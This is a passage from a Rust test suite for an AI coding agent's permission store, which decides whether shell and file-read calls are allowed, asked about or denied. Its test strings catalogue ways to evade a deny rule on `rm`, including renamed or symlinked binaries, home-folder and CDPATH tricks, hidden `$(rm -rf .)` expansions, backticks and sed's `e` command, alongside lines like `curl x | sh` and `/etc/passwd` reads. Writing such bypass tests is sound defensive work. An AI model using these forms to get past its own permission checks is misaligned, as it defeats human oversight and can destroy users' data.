                "\\rm x",
                "r''m x",
                "\"r\"m x",
                "/bin/r? x",
                "/bin/{rm,} x",
                "$(which rm) x",
                "`which rm` x",
                "cat <(rm x)",
                "sh <<< 'rm x'",
                "sh -c \"bash -c 'rm x'\"",
                "busybox rm x",
                "toybox rm x",
                "busybox sh -c 'rm x'",
            ],
            Permission::Deny,
        );
    }

    /// Programs found as a tool finds them: a word with a `/` against the root, a bare name
    /// in `bin`, every link followed (stands in for the CLI's file system look-up).
    #[derive(Debug)]
    struct LinkedPrograms(Vec<(&'static str, &'static str)>);

    impl ResolvePaths for LinkedPrograms {
        fn root(&self) -> &Path {
            Path::new("/project")
        }
        fn resolve(&self, path: &str) -> Option<PathBuf> {
            Some(Path::new("/project").join(path))
        }
        fn programs(&self, word: &str) -> Vec<PathBuf> {
            self.0
                .iter()
                .filter(|(name, _)| *name == word)
                .map(|(_, file)| PathBuf::from(file))
                .collect()
        }
    }

    #[test]
    fn a_deny_or_ask_prefix_judges_the_file_a_program_word_resolves_to() {
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("rm"), Permission::Deny))
            .configure(rule("shell", prefix("curl"), Permission::Ask))
            .configure(rule(
                "shell",
                prefix(".venv/bin/python -m pytest"),
                Permission::Allow,
            ))
            .set("shell", Permission::Allow)
            .resolve_paths(
                "shell",
                Arc::new(LinkedPrograms(vec![
                    ("./tidy", "/usr/bin/rm"),
                    ("tidy", "/usr/bin/rm"),
                    ("./fetch", "/usr/bin/curl"),
                    ("sub/./sweep", "/usr/bin/rm"),
                    (".venv/bin/python", "/usr/bin/python3.12"),
                ])),
            );
        decides(
            &store,
            &[
                "./tidy -rf .",
                "tidy -rf .",
                "sudo ./tidy x",
                "ls; ./tidy x",
            ],
            Permission::Deny,
        );
        // Another name made for the program, which the same command may run before any look-up.
        decides(
            &store,
            &[
                "ln -s /bin/rm t && ./t -rf .",
                "ln -sf ../../usr/bin/rm t",
                "cp /usr/bin/rm t",
                "install -m 755 /bin/rm t",
                "dd if=/bin/rm of=t",
                "cp ./tidy t",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &["cp a.txt b.txt", "ln -s src/lib.rs lib.rs"],
            Permission::Allow,
        );
        decides(&store, &["./fetch http://x"], Permission::Ask);
        // A folder the command moves to first.
        decides(
            &store,
            &["cd sub && ./sweep x", "pushd sub; ./sweep x"],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                ".venv/bin/python -m pytest",
                "./other x",
                "ls tidy",
                "./sweep x",
                "cd other && ./sweep x",
            ],
            Permission::Allow,
        );
        // Without the tool's look-up, only the word is judged.
        let mut bare = PermissionStore::new(Permission::Allow);
        bare.configure(rule("shell", prefix("rm"), Permission::Deny))
            .set("shell", Permission::Allow);
        decides(&bare, &["./tidy -rf ."], Permission::Allow);
    }

    #[test]
    fn an_assignment_or_option_whose_value_holds_a_slash_is_read_past_to_the_program() {
        // The file name of `D=/tmp/x` is `x`, of `--chdir=/tmp` `tmp`: an assignment or an
        // option is no program, whatever its value.
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("rm"), Permission::Deny))
            .set("shell", Permission::Allow);
        decides(
            &store,
            &[
                "D=a/b rm x",
                "D=/tmp/x sudo rm x",
                "P=./bin env rm x",
                "D=a/b; E=c/d rm x",
                "env --chdir=/tmp rm x",
                "sudo --chdir=/tmp rm x",
                "env -C/tmp rm x",
                "nohup env --chdir=a/b rm x",
                "xargs --arg-file=/dev/null rm x",
                "flock --conflict-exit-code=1 /tmp/l rm x",
            ],
            Permission::Deny,
        );
        decides(&store, &["D=a/b ls", "./D=a/b x"], Permission::Allow);
    }

    #[test]
    fn a_program_or_script_after_a_move_to_an_unnamed_folder_matches_deny_and_ask() {
        // `sub/inner/./tidy` is `rm`, `a/b/./wipe` too; `CDPATH=sub cd inner` enters
        // `sub/inner`, and the other moves go where the shell's state or an expansion says,
        // which no reading of the words names: a relative program, a script, a repository
        // there may be any. A bare name is looked up on `PATH` wherever the command is.
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("rm"), Permission::Deny))
            .set("shell", Permission::Allow)
            .resolve_paths(
                "shell",
                Arc::new(LinkedPrograms(vec![
                    ("sub/inner/./tidy", "/usr/bin/rm"),
                    ("a/b/./wipe", "/usr/bin/rm"),
                ])),
            );
        decides(
            &store,
            &[
                "CDPATH=sub cd inner && ./tidy x",
                "export CDPATH=sub; cd inner && ./tidy x",
                "cd ~+/sub/inner && ./tidy x",
                "cd sub/inner; cd ..; cd - && ./tidy x",
                "OLDPWD=sub/inner cd - >/dev/null && ./tidy x",
                "OLDPWD=sub/inner cd - && ./tidy x",
                "cd; ./tidy x",
                "pushd sub/inner; pushd /; pushd +1; ./tidy x",
                "pushd sub/inner; pushd /tmp; popd; ./tidy x",
                "D=sub/inner; cd \"$D\" && ./tidy x",
                "cd s* && sh x.sh",
                "cd - && git status",
                "cd a; cd b && ./wipe x",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                "cd sub && ./tidy x",
                "cd - && ls",
                "popd; touch made",
                "cd a && ./wipe x",
            ],
            Permission::Allow,
        );
    }

    /// A tool at `/project` whose processes' home folder is `home` (`None`: not known):
    /// `links` are the programs the words a command names resolve to, `files` the texts it
    /// reads (by absolute path).
    #[derive(Debug)]
    struct AtHome {
        home: Option<&'static str>,
        links: Vec<(&'static str, &'static str)>,
        files: Vec<(&'static str, &'static str)>,
    }

    impl ResolvePaths for AtHome {
        fn root(&self) -> &Path {
            Path::new("/project")
        }
        fn resolve(&self, path: &str) -> Option<PathBuf> {
            Some(Path::new("/project").join(path))
        }
        fn programs(&self, word: &str) -> Vec<PathBuf> {
            self.links
                .iter()
                .filter(|(name, _)| {
                    Path::new(name)
                        .components()
                        .eq(Path::new(word).components())
                })
                .map(|(_, file)| PathBuf::from(file))
                .collect()
        }
        fn read_text(&self, path: &str) -> FileText {
            let wanted = Path::new("/project").join(path);
            let wanted: Vec<_> = wanted.components().collect();
            match self
                .files
                .iter()
                .find(|(p, _)| Path::new(p).components().eq(wanted.iter().copied()))
            {
                Some((_, text)) => FileText::Text((*text).to_owned()),
                None => FileText::Missing,
            }
        }
        fn home(&self) -> Option<&Path> {
            self.home.map(Path::new)
        }
    }

    /// A repository's configuration as `git clone` writes it.
    const USUAL_REPOSITORY: &str = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\
        \tbare = false\n\tlogallrefupdates = true\n[remote \"origin\"]\n\
        \turl = git@github.com:me/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n\
        [branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";

    /// The parts of a Python venv's `activate` a shell runs when it is sourced.
    const ACTIVATE: &str = "deactivate () {\n    unset -f pydoc >/dev/null 2>&1 || true\n\
        \x20   if [ -n \"${_OLD_VIRTUAL_PATH:-}\" ] ; then\n\
        \x20       PATH=\"${_OLD_VIRTUAL_PATH:-}\"\n        export PATH\n    fi\n\
        \x20   hash -r 2> /dev/null\n}\ndeactivate nondestructive\n\
        VIRTUAL_ENV=/project/.venv\nexport VIRTUAL_ENV\n_OLD_VIRTUAL_PATH=\"$PATH\"\n\
        PATH=\"$VIRTUAL_ENV/bin:$PATH\"\nexport PATH\n";

    /// A project's build script.
    const BUILD: &str = "#!/usr/bin/env bash\nset -euo pipefail\n# Release build.\n\
        cargo build --release\nmkdir -p dist\ncp target/release/app dist/\n";

    /// A deny on `rm` and an ask on `git push`, for a tool whose home folder is `home`: in it
    /// a repository `repo` holding a link `tidy` to `rm` and two scripts, and one `hooked`
    /// whose pre-commit hook runs `rm`.
    fn denying_rm_at_home(home: Option<&'static str>) -> PermissionStore {
        let mut store = denying_rm();
        store
            .configure(rule("shell", prefix("git push"), Permission::Ask))
            .resolve_paths(
                "shell",
                Arc::new(AtHome {
                    home,
                    links: vec![
                        ("/home/me/repo/./tidy", "/usr/bin/rm"),
                        ("/home/me/tidy", "/usr/bin/rm"),
                        ("~/repo/./tidy", "/usr/bin/rm"),
                        ("./tidy", "/usr/bin/touch"),
                    ],
                    files: vec![
                        ("/home/me/build.sh", "#!/bin/sh\nmake\n"),
                        ("/home/me/repo/.git/config", "[core]\n"),
                        ("/home/me/repo/check.sh", "cargo test\n"),
                        ("/home/me/repo/wipe.sh", "rm -rf x\n"),
                        ("/home/me/hooked/.git/config", "[core]\n"),
                        ("/home/me/hooked/.git/hooks/pre-commit", "rm -rf x\n"),
                        ("/project/go.sh", "cd ~ && ./tidy x\n"),
                        ("/project/.git/config", USUAL_REPOSITORY),
                        ("/project/.venv/bin/activate", ACTIVATE),
                        ("/project/build.sh", BUILD),
                    ],
                }),
            );
        store
    }

    /// Commands a coding agent runs every day, none of which runs `rm` or pushes.
    const EVERYDAY: &[&str] = &[
        "git status",
        "git diff --stat",
        "git log --oneline -5",
        "git add -A && git commit -m 'fix: parse ~ paths'",
        "git checkout -b feature/x",
        "git stash && git pull --rebase && git stash pop",
        "git grep -n TODO",
        "cargo build",
        "cargo test",
        "cargo test -p core -- --nocapture",
        "cargo clippy --all-targets -- -D warnings",
        "cargo fmt --all",
        "ls -la",
        "ls -la src/",
        "cd src && ls",
        "cd .. && ls",
        "cd /tmp && ls",
        "pwd",
        "cat README.md",
        "head -n 20 src/main.rs",
        "tail -n 50 log.txt",
        "wc -l src/*.rs",
        "grep -rn 'fn main' .",
        "grep -rn x . | head -20",
        "rg -n TODO src",
        "find . -name '*.rs'",
        "find . -name '*.rs' | xargs wc -l",
        "find . -type f -newer Cargo.toml",
        "python -m pytest",
        "python3 -m pytest -x tests/",
        "pytest -q",
        "pip install -r requirements.txt",
        "python3 script.py --verbose",
        "npm test",
        "npm install",
        "npm run build",
        "npm rm left-pad",
        "pnpm rm left-pad",
        "node index.js",
        "FOO=1 make",
        "make -j4 test",
        "mkdir -p build && cd build && cmake .. && make",
        "cat <<'EOF' > notes.md\nhello\nEOF",
        "cat > x.txt <<EOF\nline\nEOF",
        "echo hello > out.txt",
        "sed -n '1,20p' src/lib.rs",
        "sed -i 's/foo/bar/g' src/lib.rs",
        "sed -n '/start/,/end/p' src/lib.rs",
        "sed '/^# generated/d' out.txt",
        "sed -n '1,/^end/p' src/lib.rs",
        "awk '{print $1}' data.txt",
        "diff -u a.txt b.txt",
        "jq '.items[0]' data.json",
        "curl -s http://localhost:8080/health",
        "go test ./...",
        "touch x && cp x y && mv y z",
        "chmod +x script.sh",
        "echo $PATH",
        "which python3",
        "ps aux | grep node",
        "du -sh .",
        "tar czf out.tgz src",
        "sort data.txt | uniq -c | sort -rn | head",
        "for f in src/*.rs; do wc -l $f; done",
        "test -f Cargo.toml && echo yes",
        "[ -d build ] || mkdir build",
        "cd ~/repo && git status",
        "cd ~ && ls",
        "export RUST_LOG=debug && cargo run",
        "source .venv/bin/activate && pytest",
        ". .venv/bin/activate && python -m pytest",
        "./gradlew test",
        "./build.sh",
        "bash build.sh",
        "sh -c 'cargo test 2>&1 | tail -5'",
        "time cargo build --release",
        "timeout 60 cargo test",
        "git log -p -- src/main.rs | head -50",
    ];

    #[test]
    fn everyday_commands_run_under_a_deny_on_another_program() {
        // What a coding agent runs all day, in a project with a repository, a venv and a
        // build script, under a deny on `rm` and an ask on `git push`: none runs either.
        let store = denying_rm_at_home(Some("/home/me"));
        let refused: Vec<(&str, Permission)> = EVERYDAY
            .iter()
            .map(|c| (*c, store.decide("shell", &command(c))))
            .filter(|(_, decided)| *decided != Permission::Allow)
            .collect();
        assert!(refused.is_empty(), "{refused:?}");
    }

    #[test]
    fn a_project_runner_s_own_remove_subcommand_runs_no_program() {
        // `npm rm x` uninstalls `x`; the word `rm` was read as the program npm runs.
        decides(
            &denying_rm(),
            &["npm rm left-pad", "pnpm rm left-pad", "npm r left-pad"],
            Permission::Allow,
        );
        decides(
            &denying_rm(),
            &[
                "npm exec rm x",
                "npm exec -- rm x",
                "npx rm x",
                "pnpm exec rm x",
                "npm rm rm",
                "uv run rm x",
                "yarn rm x",
            ],
            Permission::Deny,
        );
    }

    #[test]
    fn a_sed_address_s_text_is_no_command_but_its_e_command_and_flag_are() {
        // `/end/` was read as holding sed's `e` command, which runs a shell command.
        decides(
            &denying_rm(),
            &[
                "sed -n '/start/,/end/p' f",
                "sed '/keep/!d' f",
                "sed -n '/^e/,$p' f",
            ],
            Permission::Allow,
        );
        decides(
            &denying_rm(),
            &[
                "sed '/x/e' f",
                "sed '/x/,/y/ e rm f' f",
                "sed '1e rm f' f",
                "sed 's/a/;/e;/x/p' f",
                "sed -n '/end/s/x/rm f/e' f",
                "sed -e '/start/{e rm f' -e '}' f",
            ],
            Permission::Deny,
        );
    }

    #[test]
    fn a_move_to_the_home_folder_is_followed_when_the_tool_s_home_is_known() {
        // `cd ~/repo` enters the tool's home folder's `repo`, as `cd /home/me/repo` does:
        // what runs there is read there, neither refused unread nor let through.
        let store = denying_rm_at_home(Some("/home/me"));
        decides(
            &store,
            &[
                "cd ~/repo && git status",
                "cd ~ && ./build.sh",
                "cd ~/repo && sh check.sh",
                "pushd ~/repo && git log --oneline",
                "cd ~/hooked && git status",
                "cd -- ~/repo && ls",
                "timeout 60 sh -c 'cd ~/repo && sh check.sh'",
                // A `$` that sets no variable it names.
                "cd ~/repo && echo $PWD && git status",
                "export PATH=$PATH:/opt/bin && cd ~/repo && git status",
                "cd ~/repo && git show $(git rev-parse HEAD)",
            ],
            Permission::Allow,
        );
        decides(
            &store,
            &[
                "cd ~/repo && ./tidy x",
                "cd ~/repo/ && ./tidy x",
                "pushd ~/repo; ./tidy x",
                "cd ~; cd repo && ./tidy x",
                "cd ~/repo && sh wipe.sh",
                "cd ~/hooked && git commit -m x",
                "~/tidy x",
                // Unread until now: the working folder's, another's home folder's.
                "~+/tidy x",
                "~me/tidy x",
                // Quoted, `~` is a folder of that name: both are read.
                "cd \"~/repo\" && ./tidy x",
                // A home folder the command may change, another's, the working folder, the
                // last one, a glob: not followed.
                "HOME=/home/me/repo; cd ~ && ./tidy x",
                "export HO\\ME=/home/me/repo; cd ~ && ./tidy x",
                "eval HO\\\\ME=/home/me/repo; cd ~ && ./tidy x",
                "n=HO; declare \"${n}ME=/home/me/repo\"; cd ~ && ./tidy x",
                "a=HO; b=ME; declare \"$a$b=/home/me/repo\"; cd ~ && ./tidy x",
                "a=HO; b=ME; printf -v \"$a$b\" /home/me/repo; cd ~ && ./tidy x",
                "p=ev; q=al; r=HO; $p$q $r'ME=/home/me/repo'; cd ~ && ./tidy x",
                "n=x; (( $n = 1 )); cd ~ && ./tidy x",
                "HOME=/home/me/repo sh go.sh",
                "sudo -u bob sh -c 'cd ~/repo && sh check.sh'",
                "env -i sh -c 'cd ~/repo && sh check.sh'",
                "direnv exec . sh -c 'cd ~/repo && sh check.sh'",
                "cd ~me/repo && ./tidy x",
                "cd ~+/repo && ./tidy x",
                "cd ~-/repo && ./tidy x",
                "cd ~/re* && ./tidy x",
                "CDPATH=/tmp cd ~/repo && ./tidy x",
                "cd ~ && ~+/tidy x",
                "cd && ./tidy x",
            ],
            Permission::Deny,
        );
        // Unknown, the home folder is not followed.
        decides(
            &denying_rm_at_home(None),
            &["cd ~/repo && git status", "cd ~ && ./build.sh", "~/tidy x"],
            Permission::Deny,
        );
    }

    #[test]
    fn an_allow_prefix_admits_only_the_words_as_written() {
        let mut store = PermissionStore::new(Permission::Ask);
        store.configure(rule("shell", prefix("git status"), Permission::Allow));
        for not in [
            "command git status",
            "env git status",
            "/usr/bin/git status",
        ] {
            assert_eq!(
                store.decide("shell", &command(not)),
                Permission::Ask,
                "{not:?}"
            );
        }
    }

    #[test]
    fn a_chained_command_falls_through_an_allow_prefix() {
        let mut store = PermissionStore::new(Permission::Deny);
        store
            .configure(rule("shell", prefix("git status"), Permission::Allow))
            .configure(rule("shell", None, Permission::Ask));
        for chained in [
            "git status; rm -rf .",
            "git status && rm -rf .",
            "git status || rm -rf .",
            "git status | sh",
            "git status & rm -rf .",
            "git status `rm -rf .`",
            "git status $(rm -rf .)",
            "git status\nrm -rf .",
            "git status > ~/.bashrc",
            "git status < /etc/passwd",
        ] {
            assert_eq!(
                store.decide("shell", &command(chained)),
                Permission::Ask,
                "{chained:?} falls through to the next rule"
            );
        }
        let mut bare = PermissionStore::new(Permission::Deny);
        bare.configure(rule("shell", prefix("git status"), Permission::Allow));
        assert_eq!(
            bare.decide("shell", &command("git status; rm -rf .")),
            Permission::Deny,
            "to the fallback when no other rule covers it"
        );
        assert_eq!(
            bare.decide("shell", &json!({"command": ["git", "status", ";", "rm"]})),
            Permission::Deny
        );
    }

    #[test]
    fn an_expansion_that_runs_code_is_never_admitted_by_an_allow_prefix_and_matches_a_deny() {
        let hidden = [
            // bash: `@P` expands the value as a prompt, running the `$(rm -rf .)` that `$'…'`
            // spelled without a `$(` in the text.
            r"ls ${x:=$'\x24\x28rm\x20-rf\x20.\x29'} ${x@P}",
            "ls ${!x}",
            "ls ${a[x]}",
            "ls ${x:-y}",
            "ls $((x))",
            "ls $[x]",
        ];
        let mut store = PermissionStore::new(Permission::Ask);
        store.configure(rule("shell", prefix("ls"), Permission::Allow));
        decides(&store, &hidden, Permission::Ask);
        decides(
            &store,
            &["ls", "ls $HOME", "ls ${HOME}", "ls ${HOME}/x $x_1"],
            Permission::Allow,
        );
        let mut deny = PermissionStore::new(Permission::Allow);
        deny.configure(rule("shell", prefix("rm"), Permission::Deny))
            .configure(rule("shell", None, Permission::Allow));
        decides(&deny, &hidden, Permission::Deny);
        decides(&deny, &["ls ${HOME}", "echo $x"], Permission::Allow);
    }

    #[test]
    fn a_backtick_substitution_is_read_as_its_dollar_parens_twin_and_fails_closed() {
        let mut deny = PermissionStore::new(Permission::Allow);
        deny.configure(rule("shell", prefix("rm"), Permission::Deny))
            .configure(rule("shell", prefix("git push"), Permission::Deny))
            .configure(rule("shell", None, Permission::Allow));
        let mut ask = PermissionStore::new(Permission::Allow);
        ask.configure(rule("shell", prefix("rm"), Permission::Ask))
            .configure(rule("shell", None, Permission::Allow));
        // The program (or part of it) is what a substitution prints.
        let in_command_position = [
            "`echo rm` -rf ~",
            "r`printf m` -rf .",
            "`echo git` push --force",
            "\"`echo rm`\" -rf .",
            "ls; `echo rm` -rf .",
            "sudo `echo rm` -rf .",
            "ls && \"r`printf m`\" -rf .",
        ];
        decides(&deny, &in_command_position, Permission::Deny);
        decides(&ask, &in_command_position, Permission::Ask);
        // Where a backtick may be literal, counting cannot pair them: each of these runs
        // `rm -rf .` in bash, behind a backtick that a count would have paired with the next.
        let unpairable = [
            "echo \\` ; `echo rm` -rf .",
            "echo \"\\`\" ; `echo rm` -rf .",
            "echo '`' ; `echo rm` -rf .",
            "echo $'\\'' `echo rm` -rf .",
            "echo #`\n`echo rm` -rf .",
            "cat <<E\n`\nE\n`echo rm` -rf .",
            "echo `echo \\`echo rm\\`` -rf .",
        ];
        decides(&deny, &unpairable, Permission::Deny);
        decides(&ask, &unpairable, Permission::Ask);
        // A plain substitution reads as its `$(…)` twin does: an argument made by a program the
        // rules do not name runs, a named one inside is found.
        for (ticks, parens, want) in [
            ("echo `date`", "echo $(date)", Permission::Allow),
            ("touch `echo made`", "touch $(echo made)", Permission::Allow),
            ("echo \"`ls`\" x", "echo \"$(ls)\" x", Permission::Allow),
            ("echo `rm x`", "echo $(rm x)", Permission::Deny),
            (
                "echo \"`git push`\"",
                "echo \"$(git push)\"",
                Permission::Deny,
            ),
            ("`echo rm` -rf .", "$(echo rm) -rf .", Permission::Deny),
        ] {
            assert_eq!(deny.decide("shell", &command(parens)), want, "{parens}");
            assert_eq!(deny.decide("shell", &command(ticks)), want, "{ticks}");
        }
        // An allow prefix still never admits a command with a backtick.
        let mut allow = PermissionStore::new(Permission::Ask);
        allow.configure(rule("shell", prefix("echo"), Permission::Allow));
        decides(&allow, &["echo `date`"], Permission::Ask);
    }

    #[test]
    fn a_deny_prefixs_subcommand_is_found_after_the_program_s_own_options() {
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("git push"), Permission::Deny))
            .configure(rule("shell", prefix("npm publish"), Permission::Deny))
            .configure(rule("shell", prefix("kubectl delete"), Permission::Deny))
            .configure(rule("shell", None, Permission::Allow));
        decides(
            &store,
            &[
                "git -C . push --force",
                "git -c core.sshCommand=x push",
                "git --no-pager push",
                "git --git-dir=.git push",
                "git -C . -c a=b --no-pager push origin",
                "npm --prefix . publish",
                "kubectl -n prod delete pod x",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                "git log push",
                "git -C . status",
                "git commit -m push",
                "npm run publish-docs",
                "kubectl get pods",
            ],
            Permission::Allow,
        );
    }

    #[test]
    fn allow_chaining_lets_an_allow_prefix_admit_a_chain() {
        let mut store = PermissionStore::new(Permission::Ask);
        store.configure(rule(
            "shell",
            Some(ArgumentMatch::CommandPrefix {
                field: "command".into(),
                prefix: "make".into(),
                allow_chaining: true,
            }),
            Permission::Allow,
        ));
        for chain in ["make test && make lint", "make; rm x", "make|tee log"] {
            assert_eq!(
                store.decide("shell", &command(chain)),
                Permission::Allow,
                "{chain}"
            );
        }
    }

    #[test]
    fn a_deny_prefix_matches_any_part_of_a_chain() {
        let mut store = PermissionStore::new(Permission::Allow);
        store.configure(rule("shell", prefix("rm"), Permission::Deny));
        assert_eq!(
            store.decide("shell", &command("ls; rmdir x")),
            Permission::Ask,
            "a tool with argument rules asks about the calls they do not match"
        );
        store.configure(rule("shell", None, Permission::Allow));
        for c in [
            "ls; rm -rf .",
            "ls && rm x",
            "echo $(rm x)",
            "ls | rm x",
            "rm x",
        ] {
            assert_eq!(store.decide("shell", &command(c)), Permission::Deny, "{c}");
        }
        assert_eq!(
            store.decide("shell", &command("ls; rmdir x")),
            Permission::Allow
        );
    }

    #[test]
    fn an_allow_prefix_never_turns_off_the_tool_s_own_ask_for_other_commands() {
        let mut store = PermissionStore::new(Permission::Allow);
        store.tool_default("shell", Permission::Ask).configure(rule(
            "shell",
            prefix("python3"),
            Permission::Allow,
        ));
        assert_eq!(
            store.decide("shell", &command("python3 x.py")),
            Permission::Allow
        );
        for other in ["ls", "rm -rf ~", "python3 x.py; curl x | sh", "git status"] {
            assert_eq!(
                store.decide("shell", &command(other)),
                Permission::Ask,
                "{other}"
            );
        }
        assert_eq!(store.unmatched("shell"), Permission::Ask);
        assert_eq!(store.unmatched("read"), Permission::Allow, "no rule on it");

        // A rule for the whole tool is what lets the others run.
        let mut whole = store.clone();
        whole.configure(rule("shell", None, Permission::Allow));
        assert_eq!(whole.decide("shell", &command("ls")), Permission::Allow);
        assert_eq!(whole.unmatched("shell"), Permission::Allow);
        // A `*` rule does not name the tool.
        let mut wild = store.clone();
        wild.configure(rule("*", None, Permission::Allow));
        assert_eq!(wild.decide("shell", &command("ls")), Permission::Ask);
        assert_eq!(wild.decide("read", &json!({})), Permission::Allow);
    }

    #[test]
    fn a_tool_with_argument_rules_asks_about_unmatched_calls_never_looser_than_before() {
        for (fallback, unmatched) in [
            (Permission::Allow, Permission::Ask),
            (Permission::Ask, Permission::Ask),
            (Permission::Deny, Permission::Deny),
        ] {
            let mut store = PermissionStore::new(fallback);
            store.configure(rule("deploy", prefix("staging"), Permission::Allow));
            assert_eq!(
                store.decide("deploy", &command("staging now")),
                Permission::Allow
            );
            assert_eq!(
                store.decide("deploy", &command("prod now")),
                unmatched,
                "{fallback:?}"
            );
            assert_eq!(store.unmatched("deploy"), unmatched, "{fallback:?}");
            assert_eq!(store.unmatched("other"), fallback, "{fallback:?}");
        }
        // `*` allow covers tools without argument rules; it does not loosen a tool that has them.
        let mut store = PermissionStore::new(Permission::Deny);
        store
            .configure(rule("deploy", prefix("staging"), Permission::Deny))
            .configure(rule("*", None, Permission::Allow));
        assert_eq!(store.unmatched("deploy"), Permission::Ask);
        assert_eq!(store.unmatched("other"), Permission::Allow);
        // `*` argument rules do not make a tool's other calls asked.
        let mut star = PermissionStore::new(Permission::Allow);
        star.configure(rule("*", glob("**/.env"), Permission::Deny));
        assert_eq!(star.unmatched("read"), Permission::Allow);
    }

    #[test]
    fn an_always_answer_settles_the_unmatched_calls_but_no_argument_ask_or_deny() {
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .tool_default("shell", Permission::Ask)
            .configure(rule("shell", prefix("git status"), Permission::Allow))
            .configure(rule("shell", prefix("rm"), Permission::Ask))
            .configure(rule("shell", prefix("curl"), Permission::Deny));
        assert_eq!(store.decide("shell", &command("ls")), Permission::Ask);
        store.remember("shell", Permission::Allow).unwrap();
        assert_eq!(store.unmatched("shell"), Permission::Allow);
        assert_eq!(store.decide("shell", &command("ls")), Permission::Allow);
        assert_eq!(store.decide("shell", &command("rm x")), Permission::Ask);
        assert_eq!(store.decide("shell", &command("curl x")), Permission::Deny);
        store.remember("shell", Permission::Deny).unwrap();
        assert_eq!(
            store.decide("shell", &command("git status")),
            Permission::Deny,
            "a saved never denies every call, argument allows included"
        );
    }

    /// A tool whose root is `/ws` and where `link` leads to `secrets`; `..` is refused.
    #[derive(Debug)]
    struct Linked(PathBuf);

    impl ResolvePaths for Linked {
        fn root(&self) -> &Path {
            &self.0
        }
        fn resolve(&self, path: &str) -> Option<PathBuf> {
            if path.contains("..") {
                return None;
            }
            let path = path.replacen("link", "secrets", 1);
            Some(self.0.join(path))
        }
    }

    #[test]
    fn path_rules_judge_the_file_the_tool_resolves() {
        let mut store = PermissionStore::new(Permission::Ask);
        store.root("/agent");
        store
            .resolve_paths("read", Arc::new(Linked(PathBuf::from("/ws"))))
            .configure(rule("read", glob("secrets/**"), Permission::Deny))
            .configure(rule("read", glob("**"), Permission::Allow))
            .configure(rule("other", glob("**"), Permission::Allow));
        assert_eq!(store.decide("read", &path("link/key")), Permission::Deny);
        assert_eq!(store.decide("read", &path("notes/a")), Permission::Allow);
        assert_eq!(
            store.decide("read", &path("notes/../../etc/passwd")),
            Permission::Ask,
            "a path the tool refuses is never allowed"
        );
        // Without a resolver of its own, a tool's paths stay lexical against the store's root.
        assert_eq!(store.decide("other", &path("link/key")), Permission::Allow);
        let mut wild = store.clone();
        wild.resolve_paths("*", Arc::new(Linked(PathBuf::from("/agent"))));
        wild.configure(rule("other", glob("secrets/**"), Permission::Deny));
        assert_eq!(wild.decide("other", &path("link/key")), Permission::Deny);
    }

    #[test]
    fn deny_and_ask_path_globs_ignore_case_and_allow_globs_do_not() {
        // On a file system that ignores case (macOS's, a Windows drive under WSL, FAT, SMB),
        // `SECRETS/key.pem` opens the file `secrets/**` covers.
        let mut store = PermissionStore::new(Permission::Ask);
        store.root("/agent");
        store
            .resolve_paths("read", Arc::new(Linked(PathBuf::from("/ws"))))
            .configure(rule("read", glob("secrets/**"), Permission::Deny))
            .configure(rule("read", glob("drafts/*.md"), Permission::Ask))
            .configure(rule("read", glob("src/**"), Permission::Allow));
        for p in ["SECRETS/key.pem", "Secrets/key.pem", "secrets/KEY.PEM"] {
            assert_eq!(store.decide("read", &path(p)), Permission::Deny, "{p}");
            assert_eq!(
                store.path_rules("read", "path").judge(p),
                Some(Permission::Deny),
                "{p}"
            );
        }
        assert_eq!(store.decide("read", &path("DRAFTS/a.MD")), Permission::Ask);
        assert_eq!(
            store.decide("read", &path("src/main.rs")),
            Permission::Allow
        );
        // An allow admits only what it names, in its case: the rest is asked about.
        assert_eq!(store.decide("read", &path("SRC/main.rs")), Permission::Ask);
    }

    #[test]
    fn deny_and_ask_path_globs_ignore_unicode_case_and_normalization_and_allow_globs_do_not() {
        // macOS's file system ignores case beyond ASCII and Unicode normalization too:
        // `ÉTÉ/plan.md`, and `été` written decomposed (`e` and U+0301, as macOS writes names),
        // open the file `été/**` covers; globset's own case folding is ASCII's only.
        let mut store = PermissionStore::new(Permission::Ask);
        store.root("/agent");
        store
            .resolve_paths("read", Arc::new(Linked(PathBuf::from("/ws"))))
            .configure(rule("read", glob("été/**"), Permission::Deny))
            .configure(rule("read", glob("Brouillons/*.md"), Permission::Ask))
            .configure(rule("read", glob("café/**"), Permission::Allow));
        for p in [
            "ÉTÉ/plan.md",
            "Été/plan.md",
            "e\u{301}te\u{301}/plan.md",
            "E\u{301}TE\u{301}/x",
        ] {
            assert_eq!(store.decide("read", &path(p)), Permission::Deny, "{p}");
            assert_eq!(
                store.path_rules("read", "path").judge(p),
                Some(Permission::Deny),
                "{p}"
            );
        }
        assert_eq!(
            store.decide("read", &path("BROUILLONS/Ä.MD")),
            Permission::Ask
        );
        assert_eq!(store.decide("read", &path("café/menu")), Permission::Allow);
        // An allow keeps to its spelling: the rest is asked about.
        for p in ["CAFÉ/menu", "cafe\u{301}/menu"] {
            assert_eq!(store.decide("read", &path(p)), Permission::Ask, "{p}");
        }
        assert_eq!(fold_name("AGENT.TOML"), "agent.toml");
        assert_eq!(fold_name("E\u{301}TÉ"), "été");
        assert!(matches!(fold_name("plain/name"), Cow::Borrowed(_)));
        assert_eq!(
            fold_path(Path::new("/Project/E\u{301}TÉ/Agent.TOML")),
            Path::new("/project/été/agent.toml")
        );
    }

    #[test]
    fn path_rules_hold_the_deny_and_ask_globs_of_a_tool_s_field_and_judge_as_decide_does() {
        let mut store = PermissionStore::new(Permission::Allow);
        store.root("/agent");
        store
            .resolve_paths("read", Arc::new(Linked(PathBuf::from("/ws"))))
            .configure(rule("*", glob("**/.env"), Permission::Deny))
            .configure(rule("read", glob("secrets/**"), Permission::Deny))
            .configure(rule("read", glob("drafts/**"), Permission::Ask))
            .configure(rule("read", glob("**"), Permission::Allow))
            .configure(rule("other", glob("notes/**"), Permission::Deny))
            .configure(rule("read", prefix("rm"), Permission::Deny));
        let read = store.path_rules("read", "path");
        assert!(!read.is_empty());
        for (p, want) in [
            (".env", Some(Permission::Deny)),
